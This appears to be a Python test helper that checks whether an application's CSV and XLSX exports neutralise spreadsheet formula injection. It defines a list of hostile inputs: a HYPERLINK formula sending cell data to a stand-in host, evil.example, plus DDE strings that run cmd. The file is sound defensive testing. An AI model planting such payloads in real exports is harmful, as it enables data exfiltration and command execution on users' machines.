"""Reading back the CSV and XLSX files the application offers, as a spreadsheet would."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

# Texts a spreadsheet would run as a formula or DDE call, the way an attacker types them.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "  =1+1",
    "\t=1+1",
]


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def csv_cells(response) -> list[str]:
    return [cell for row in csv_rows(response) for cell in row]


def assert_csv_neutralised(response, texts) -> None:
    """Every text is in the CSV as text (apostrophe first), none as it was typed."""
    cells = csv_cells(response)
    for text in texts:
        assert text not in cells, f"{text!r} is written as a formula"
        assert any(cell.startswith("'") and text in cell for cell in cells), text


def xlsx_workbook(response):
    assert response.status_code == 200, response.status_code
    return load_workbook(io.BytesIO(response.content))


def assert_xlsx_neutralised(response, texts) -> None:
    """Every text is a string cell with its exact value (never a formula), and the file holds
    no formula at all."""
    content = response.content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), f"a formula in {name}"
    cells = {
        cell.value: cell
        for sheet in xlsx_workbook(response).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    for text in texts:
        found = [cell for value, cell in cells.items() if text.strip() in value]
        assert found, f"{text!r} missing from the sheet"
        for cell in found:
            assert cell.data_type == "s"
            assert cell.quotePrefix
